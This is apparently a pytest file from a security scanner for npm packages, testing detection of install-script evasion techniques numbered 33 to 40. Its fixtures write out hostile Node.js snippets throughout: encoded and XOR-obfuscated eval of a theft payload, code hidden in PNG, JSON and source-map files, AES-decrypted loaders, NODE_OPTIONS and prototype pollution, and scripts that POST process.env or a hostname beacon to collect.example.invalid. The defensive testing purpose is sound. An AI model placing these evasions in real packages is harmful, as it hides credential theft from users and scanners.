"""Evasions 33 to 40: other roads to modules, to evaluation, to data that is code, and to another process."""

from __future__ import annotations

import base64
import json

import pytest

from tests.builders import Files, a_manifest
from tests.evasions.packages import THEFT, Seen, a_package, codes, holding, packages

pytestmark = pytest.mark.semgrep

ENCODED = base64.b64encode(THEFT.encode()).decode()
CODES = ",".join(str(ord(letter)) for letter in THEFT)
XORED = base64.b64encode(bytes(byte ^ 0x2A for byte in THEFT.encode())).decode()
B: Files = {"b.js": THEFT}
"""A file that is only reached by whoever understands the install.js beside it."""


@codes(
    B,
    module="module.require('./b')",
    main_module="process.mainModule.require('./b')",
    require_main="require.main.require('./b')",
    create="require('module').createRequire(__filename)('./b')",
    builtin="process.getBuiltinModule('module').createRequire(__filename)('./b')",
    imported="import('./b.js')",
    alias="const r = require; r('./b')",
    indirect="(0, require)('./b')",
    called="require.call(null, './b')",
    bound="require.bind(null)('./b')",
    by_name="module['req' + 'uire']('./b')",
    resolved="require(require.resolve('./b'))",
)
def test_every_other_road_to_a_module_is_followed(seen: Seen) -> None:
    """33: a value that can load code is followed under every name it has."""
    assert "sends-environment" in seen.errors_in("b.js")


@codes(
    B,
    constructor="module.constructor._load('./b', module)",
    load="require('module')._load(__dirname + '/b.js')",
    applied="require.apply(null, ['./b'])",
    reflected="Reflect.apply(require, null, ['./b'])",
    by_global="globalThis.x = require; x('./b')",
    passed="((r) => r('./b'))(require)",
    in_argument="[].map.call(['./b'], require)",
    extension="require.extensions['.js'](module, __dirname + '/b.js')",
)
def test_a_road_to_modules_that_is_lost_is_told(seen: Seen) -> None:
    """33: where such a value goes on is known, or a gap."""
    assert seen.errors_in("b.js") or ("install.js", "dynamic") in seen.blind_at


@codes(
    binding="process.binding('spawn_sync').spawn({file: 'sh', args: ['sh', '-c', 'id']})",
    linked="process._linkedBinding('spawn_sync').spawn({})",
)
def test_a_road_below_the_modules_is_told(seen: Seen) -> None:
    """33: internal bindings start programs without any module."""
    assert "dynamic" in seen.blind


@codes({"a.png": b"\x7fELF" + bytes(60)}, dlopen="process.dlopen(module, __dirname + '/a.png')")
def test_a_library_that_calls_itself_a_picture_blocks(seen: Seen) -> None:
    """33: ``process.dlopen`` loads native code under any name."""
    assert "loads-disguised-binary" in seen.errors


@codes(
    indirect=f"(0, eval)(Buffer.from('{ENCODED}', 'base64').toString())",
    direct=f"eval(atob('{ENCODED}'))",
    function=f"new Function(Buffer.from('{ENCODED}', 'base64').toString())()",
    function_with_require=f"Function('require', atob('{ENCODED}'))(require)",
    constructor=f"(() => {{}}).constructor(atob('{ENCODED}'))()",
    chained=f"[]['filter']['constructor'](atob('{ENCODED}'))()",
    asynchronous=f"Object.getPrototypeOf(async () => {{}}).constructor(atob('{ENCODED}'))()",
    context=f"require('vm').runInThisContext(Buffer.from('{ENCODED}', 'base64').toString())",
    script=f"new (require('vm').Script)(atob('{ENCODED}')).runInThisContext()",
    compiled=f"module._compile(Buffer.from('{ENCODED}', 'base64').toString(), 'x.js')",
    worker=f"new (require('worker_threads').Worker)(atob('{ENCODED}'), {{eval: true}})",
    data=f"import('data:text/javascript;base64,{ENCODED}')",
    by_node=f"require('child_process').execFileSync('node', ['-e', atob('{ENCODED}')])",
    by_pipe=f"require('child_process').execSync('node -', {{input: atob('{ENCODED}')}})",
    by_name=f"globalThis['ev' + 'al'](atob('{ENCODED}'))",
    by_codes=f"eval(String.fromCharCode({CODES}))",
    xor=f"eval(Buffer.from('{XORED}', 'base64').map((b) => b ^ 42).toString())",
)
def test_every_other_road_to_evaluation_blocks(seen: Seen) -> None:
    """34 and 36: what is decoded and evaluated is read, however either is written."""
    assert "sends-environment" in seen.errors


@codes(
    inspector="const s = new (require('inspector').Session)(); s.connect();"
    " s.post('Runtime.evaluate', {expression: require('fs').readFileSync('a.txt', 'utf8')})",
    compile_hook="module.constructor.prototype._compile = function (c, f) { return eval(c + x) }; require('./c')",
)
def test_an_unusual_road_to_evaluation_is_told(seen: Seen) -> None:
    """34: code that comes from elsewhere is at least a gap."""
    assert ("install.js", "dynamic") in seen.blind_at


@codes(
    {"a.wasm": b"\0asm\1\0\0\0"},
    wasm="WebAssembly.instantiate(require('fs').readFileSync(__dirname + '/a.wasm'), {env: {run: eval}})",
)
def test_web_assembly_is_told(seen: Seen) -> None:
    """34: nobody here reads its instructions, and whoever hands it ``eval`` has lost that."""
    assert seen.blind >= {"binary", "dynamic"}


MODULE = "const m = new WebAssembly.Module(require('fs').readFileSync(__dirname + '/a.wasm'));\n"


@codes({"a.wasm": b"\0asm\1\0\0\0"}, asked=f"{MODULE}if (WebAssembly.Module.imports(m).length) process.exit(1);")
def test_web_assembly_that_is_only_asked_what_it_needs_does_not_run(seen: Seen) -> None:
    assert not seen.blind


@codes(
    {"a.wasm": b"\0asm\1\0\0\0", "b.js": "module.exports = (all, m) => new all.Instance(m);"},
    run=f"{MODULE}new WebAssembly.Instance(m, {{env: {{run: eval}}}});",
    run_by_name=f"{MODULE}const {{ Instance }} = WebAssembly; new Instance(m);",
    run_by_computed_name=f"{MODULE}new WebAssembly['Inst' + 'ance'](m);",
    run_by_any_name=f"{MODULE}WebAssembly[process.env.HOW](m);",
    run_by_another_file=f"{MODULE}require('./b')(WebAssembly, m);",
    read=f"{MODULE}eval(Buffer.from(WebAssembly.Module.customSections(m, 'a')[0]).toString());",
)
def test_web_assembly_that_may_run_or_be_read_is_told(seen: Seen) -> None:
    assert seen.blind


DATA: Files = {
    "data.json": json.dumps({"hook": THEFT}),
    "a.txt": THEFT,
    "a.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 40 + b"//--\n" + THEFT.encode(),
    ".env.example": f"RUN={ENCODED}\n",
    "a.js.map": json.dumps({"sourcesContent": [THEFT]}),
}


@codes(
    DATA,
    json="eval(require('./data.json').hook)",
    source_map="new Function(require('./a.js.map').sourcesContent[0])()",
    extension="require.extensions['.txt'] = require.extensions['.js']; require('./a.txt')",
)
def test_code_in_a_data_file_that_is_required_blocks(seen: Seen) -> None:
    """35: what is required is matched, whatever the file is called; a text out of a table, where it runs."""
    assert seen.errors_in(*DATA, ":inline-1")


@codes(
    DATA,
    json_parsed="new Function(JSON.parse(require('fs').readFileSync(__dirname + '/data.json')).hook)()",
    text="eval(require('fs').readFileSync(__dirname + '/a.txt', 'utf8'))",
    picture="const t = require('fs').readFileSync(__dirname + '/a.png').toString('latin1'); eval(t.split('//--')[1])",
    variables="const t = require('fs').readFileSync('.env.example', 'utf8'); eval(atob(t.split('=')[1]))",
    copied="const fs = require('fs'); fs.copyFileSync('a.txt', 'c.js'); require('./c.js')",
)
def test_code_that_is_read_as_data_and_run_is_told(seen: Seen) -> None:
    """35: what is evaluated is read where it stands, or it is a gap that it cannot be."""
    assert seen.errors_in(*DATA) or {kind for path, kind in seen.blind_at if path == "install.js"} & {
        "dynamic",
        "missing",
    }


AES = """
const crypto = require('crypto');
const d = crypto.createDecipheriv('aes-256-cbc', Buffer.from(KEY, 'hex'), Buffer.alloc(16));
const text = Buffer.concat([d.update(require('fs').readFileSync(__dirname + '/license.list')), d.final()]).toString();
"""


@codes(
    {"license.list": bytes(range(256)) * 8},
    evaluated=f"const KEY = '{'ab' * 32}';{AES}eval(text)",
    compiled=f"const KEY = '{'ab' * 32}';{AES}module._compile(text, __filename)",
    child=f"const KEY = '{'ab' * 32}';{AES}require('child_process').spawn(process.execPath, ['-e', text])",
    key_from_server=f"fetch('https://collect.example.invalid/k').then((r) => r.text()).then((KEY) => {{{AES}eval(text)}})",
)
def test_code_that_is_decrypted_and_run_blocks(seen: Seen) -> None:
    """36: the loader is in the open, whatever it loads."""
    assert seen.errors


GET = "require('https').get('https://collect.example.invalid', (r) => { let t = ''; r.on('data', (c) => (t += c)); "


@codes(
    thrown=GET + "r.on('end', () => { try { throw new Error(t) } catch (e) { eval(e.message) } }) })",
    handler="process.on('uncaughtException', (e) => new Function(e.message)());"
    + GET
    + "r.on('end', () => { throw Error(t) }) })",
    rejection="process.on('unhandledRejection', (e) => eval(e)); fetch('https://a.example.invalid').then(async (r) => Promise.reject(await r.text()))",
    primitive=f"String({{[Symbol.toPrimitive]() {{ {THEFT}; return '' }}}})",
    getter=f"const o = {{get a() {{ {THEFT} }}}}; o.a",
    text=f"'' + {{toString() {{ {THEFT}; return '' }}}}",
    at_exit=f"process.once('exit', () => {{ {THEFT} }})",
)
def test_code_that_runs_as_an_accident_is_code(seen: Seen) -> None:
    """37: every function of a reached file counts, whoever calls it and when."""
    assert seen.errors_in("install.js")


@codes(
    B,
    options="Object.prototype.NODE_OPTIONS = '--require ./b.js'; require('child_process').fork('./c.js')",
    pollutes_shell="Object.prototype.shell = 'sh'; Object.prototype.env = {BASH_ENV: './b.sh'}; require('child_process').spawnSync('true')",
    by_name="({}).__proto__['NODE_OPTIONS'] = '--require=./b.js'; require('child_process').fork(__dirname + '/c.js')",
    environment="process.env.NODE_OPTIONS = '--require ' + __dirname + '/b.js'; require('child_process').fork(__dirname + '/c.js')",
    assigned="Object.assign(process.env, {NODE_OPTIONS: '-r ./b.js'}); require('child_process').spawn('node', ['c.js'])",
)
def test_a_child_that_inherits_what_it_should_not_is_told(seen: Seen) -> None:
    """38: what is put where every child looks for options is seen, and that it changes what runs is told."""
    assert "plants-runtime-options" in seen.errors
    assert seen.told("_OPTIONS, which changes") or seen.told("BASH_ENV, which changes")


@codes(
    B,
    assigned="Object.prototype.shell = '/bin/x'; require('child_process').spawnSync('true')",
    by_name="({}).__proto__['shell'] = '/bin/x'; require('child_process').spawnSync('true')",
    defined="Object.defineProperty(Object.prototype, 'shell', {value: '/bin/x'}); require('child_process').spawnSync('true')",
)
def test_an_option_that_every_object_inherits_is_told(seen: Seen) -> None:
    """38: who changes ``Object.prototype`` decides what every later call does."""
    assert seen.told("changes what others inherit")


LOADED = {
    "package.json": a_manifest(
        scripts={"postinstall": "node install.mjs"},
        imports={"#step": {"browser": "./clean.js", "node": "./b.js", "default": "./clean.js"}},
        exports={"./step": {"import": "./b.js", "default": "./clean.js"}},
        browser={"./step.js": "./clean.js"},
    ),
    "b.js": THEFT,
    "clean.js": "",
}


@packages(
    imports={**LOADED, "install.mjs": "import '#step'"},
    itself={**LOADED, "install.mjs": "import 'example/step'"},
    browser_map={**LOADED, "install.mjs": "import './step.js'", "step.js": THEFT},
)
def test_conditions_of_modules_are_resolved_as_node_does(seen: Seen) -> None:
    """39: the branch that Node takes is reached, and not the one that a bundler would take."""
    assert "sends-environment" in seen.errors_in("b.js", "step.js")


@a_package({**LOADED, "install.mjs": "import {register} from 'module'; register('./b.js', import.meta.url)"})
def test_a_hook_of_modules_is_read_or_told(seen: Seen) -> None:
    """39: a hook sees, and may change, every module that is loaded after it."""
    assert seen.errors_in("b.js") or ("install.mjs", "dynamic") in seen.blind_at


COLLECT = "module.exports = () => JSON.stringify(process.env)"
SEND = "const https = require('https'); module.exports = (t) => https.request('https://collect.example.invalid', {method: 'POST'}).end(t)"
CHILD = "const https = require('https'); https.request('https://collect.example.invalid', {method: 'POST'}).end(process.argv[2])"


@packages(
    files=holding({"install.js": "require('./send')(require('./all')())", "all.js": COLLECT, "send.js": SEND}),
    arguments=holding(
        {
            "install.js": "require('child_process').fork('./c.js', [Buffer.from(require('./all')()).toString('hex')])",
            "all.js": COLLECT,
            "c.js": CHILD,
        }
    ),
    worker=holding(
        {
            "install.js": "new (require('worker_threads').Worker)('./c.js', {workerData: require('./all')()})",
            "all.js": COLLECT,
            "c.js": "require('./send')(require('worker_threads').workerData)",
            "send.js": SEND,
        }
    ),
    two_hooks={
        "package.json": a_manifest(scripts={"preinstall": "node a", "postinstall": "node b"}),
        "a.js": "require('fs').writeFileSync('.state', JSON.stringify(process.env))",
        "b.js": "require('./send')(require('fs').readFileSync('.state'))",
        "send.js": SEND,
    },
)
def test_a_theft_in_several_files_or_processes_blocks(seen: Seen) -> None:
    """40: what the whole reach contains decides, and not one file."""
    assert seen.errors


@a_package(
    holding(
        {
            "install.js": "const {hostname, userInfo} = require('os'); const who = {h: hostname(), u: userInfo().username};"
            " require('./send')(Buffer.from(JSON.stringify(who)).toString('hex'))",
            "send.js": SEND,
        }
    )
)
def test_a_beacon_in_two_files_blocks(seen: Seen) -> None:
    """40: identity in one file and the network in another are one act."""
    assert seen.blocked
